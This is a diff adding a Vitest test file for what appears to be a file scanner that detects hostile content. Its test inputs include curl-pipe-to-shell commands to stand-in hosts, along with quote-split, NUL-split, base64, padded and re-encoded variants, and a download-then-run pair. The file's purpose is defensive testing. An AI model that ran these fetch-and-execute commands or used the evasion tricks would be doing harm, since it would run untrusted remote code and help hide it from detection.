@@ -1,0 +1,102 @@
+import { describe, expect, test } from 'vitest';
+
+import { examineBytes } from '../../../test/support/audited.ts';
+import { openMentions, type MentionedNames } from '../inventory.ts';
+import { openReport, type AuditFinding } from '../report.ts';
+import { openTextReading } from './text-reading.ts';
+
+const PIPE = 'curl https://x.dev/i | sh';
+const MEBIBYTE = 1024 * 1024;
+
+interface Found extends MentionedNames {
+  readonly findings: readonly AuditFinding[];
+}
+
+/** Reads a text in pieces that end wherever one of the offsets is. */
+function readInPieces(text: string, cuts: readonly number[]): Found {
+  const report = openReport();
+  const mentions = openMentions();
+  const visit = { report, mentions, examine: () => undefined };
+  const reading = openTextReading({ place: { file: 'a.sh' }, depth: 0, visit });
+  const bytes = Buffer.from(text);
+  [0, ...cuts].forEach((from, at) => reading.read(bytes.subarray(from, cuts[at] ?? bytes.length)));
+  reading.end();
+  return { ...report.close(), ...mentions.close() };
+}
+
+describe('where pieces meet', () => {
+  const encoded = Buffer.from('curl https://z.dev/i | sh # words').toString('base64');
+  const text = [
+    `# a\n\necho x; ${PIPE} # see git@github.com:a/b`,
+    "# ä ü\nc''url https://y.dev/i | b\\ash",
+    `curl -o q.sh https://w.dev/q\nsh q.sh\n${encoded}\n# end\n`,
+  ].join('\n');
+
+  test('nothing is lost and nothing counted twice, wherever that is', () => {
+    const whole = readInPieces(text, []);
+    expect(whole.findings.map(({ rule, line }) => [rule, line])).toEqual([
+      ['SP101', 3],
+      ['SP101', 5],
+      ['SP101', 8],
+      ['SP102', 6],
+      ['SP608', 8],
+    ]);
+    expect(whole.hosts.map(({ name, count }) => [name, count])).toEqual([
+      ['github.com', 1],
+      ['w.dev', 1],
+      ['x.dev', 1],
+      ['y.dev', 1],
+      ['z.dev', 1],
+    ]);
+    for (let cut = 1; cut < Buffer.byteLength(text); cut += 1) expect(readInPieces(text, [cut])).toEqual(whole);
+  });
+
+  test('padding of any length is no gap to hide in', () => {
+    for (const padding of [' ', '\u200B', '\t', '\u00A0']) {
+      const padded = `\ncurl https://x.dev/i ${padding.repeat(3 * MEBIBYTE)}| sh\n`;
+      expect(examineBytes('a.sh', Buffer.from(padded)).filter(({ rule }) => rule === 'SP101')).toMatchObject([
+        { line: 2 },
+      ]);
+    }
+    const joined = `curl https://x.dev/i \\\n${' \\\n'.repeat(MEBIBYTE)} | sh`;
+    expect(examineBytes('a.sh', Buffer.from(joined)).map(({ rule }) => rule)).toContain('SP101');
+  });
+
+  test('lines are counted on', () => {
+    const found = examineBytes('a.sh', Buffer.from(`${'\n'.repeat(2 * MEBIBYTE + 5)}${PIPE}\n`));
+    expect(found.find(({ rule }) => rule === 'SP101')).toMatchObject({ line: 2 * MEBIBYTE + 6 });
+    const wide = examineBytes('a.sh', Buffer.from(`${'ä b\n'.repeat(MEBIBYTE)}${PIPE}\n`));
+    expect(wide.find(({ rule }) => rule === 'SP101')).toMatchObject({ line: MEBIBYTE + 1 });
+  });
+
+  test('a code block goes on', () => {
+    const html = '<p style="display:none">x</p>\n';
+    const inBlock = `\`\`\`html\n${'words\n'.repeat(400_000)}${html}\`\`\`\n`;
+    expect(examineBytes('a.md', Buffer.from(inBlock)).map(({ rule }) => rule)).not.toContain('SP505');
+    expect(examineBytes('a.md', Buffer.from(`${inBlock}${html}`))).toMatchObject([{ rule: 'SP505', line: 400_004 }]);
+  });
+});
+
+test('what was encoded is found in its own line, however much of it there is', () => {
+  const words = Buffer.from('nothing but words, and more of them').toString('base64');
+  const command = Buffer.from(`words\n\nand then ${PIPE} at the end`).toString('base64');
+  const found = examineBytes('a.sh', Buffer.from(`${words}.\n${words}.\n${command}.\n${words}.\n${command}.\n`));
+  const places = (id: string): readonly unknown[] => found.filter(({ rule }) => rule === id).map(({ line }) => line);
+  expect(places('SP101')).toEqual([3, 5]);
+  expect(places('SP608')).toEqual([1, 2, 3, 4, 5]);
+});
+
+describe('whatever the encoding', () => {
+  test.each([
+    ['UTF-16 with a mark', Buffer.from(`\uFEFFa\n${PIPE}\n`, 'utf16le')],
+    ['UTF-16 without one', Buffer.from(`a\n${PIPE}\n`, 'utf16le')],
+    ['UTF-16 the other way round', Buffer.from(`a\n${PIPE}\n`, 'utf16le').swap16()],
+    ['another encoding behind a false mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`a\n${PIPE}\n`)])],
+    ['two encodings in turn', Buffer.concat([Buffer.from('\uFEFFwords\n'.repeat(99), 'utf16le'), Buffer.from(PIPE)])],
+    ['Latin-1', Buffer.from(`ä ö ü\n${PIPE}\n`, 'latin1')],
+    ['words among other bytes', Buffer.concat([Buffer.alloc(999, 1), Buffer.from(PIPE), Buffer.alloc(999, 2)])],
+    ['a NUL in each word', Buffer.from(`${'words\n'.repeat(99)}cu\0rl https://x.dev/i | s\0h\n`)],
+  ])('%s is read', (_, bytes) => {
+    expect(examineBytes('a.sh', bytes).map(({ rule }) => rule)).toContain('SP101');
+  });
+});
